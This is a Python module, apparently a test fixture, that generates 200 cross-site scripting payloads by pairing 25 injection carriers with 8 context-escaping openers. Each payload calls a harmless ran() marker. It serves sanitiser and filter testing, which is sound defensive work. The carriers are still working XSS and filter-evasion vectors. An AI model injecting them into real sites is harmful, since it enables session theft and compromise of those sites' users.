"""Two hundred payloads of cross-site scripting (XSS); each calls `ran()` if a page lets it through."""

from __future__ import annotations

from itertools import product

_CARRIERS = (
    "<script>ran()</script>",
    "<ScRiPt >ran()</sCrIpT >",
    "<script src=data:,ran()></script>",
    "<img src=x onerror=ran()>",
    "<img/src=x/onerror=ran()>",
    "<svg/onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><script>ran()</script></svg>",
    "<math><mtext><img src=x onerror=ran()></mtext></math>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<details open ontoggle=ran()>x</details>",
    "<input autofocus onfocus=ran()>",
    "<body onload=ran()>",
    "<video><source onerror=ran()></video>",
    "<object data=javascript:ran()></object>",
    "<a href=javascript:ran()>x</a>",
    "<form action=javascript:ran()><button>x</button></form>",
    "<marquee onstart=ran()>x</marquee>",
    "<style onload=ran()></style>",
    "<template><script>ran()</script></template><img src=x onerror=ran()>",
    "javascript:ran()//",
    "{{ constructor.constructor('ran()')() }}",
    "${ran()}",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
)
_OPENERS = ("", '">', "'>", "</title>", "</style>", "</textarea>", "--></script>", "</svg>")
PAYLOADS = tuple(f"{opener}{carrier}" for opener, carrier in product(_OPENERS, _CARRIERS))
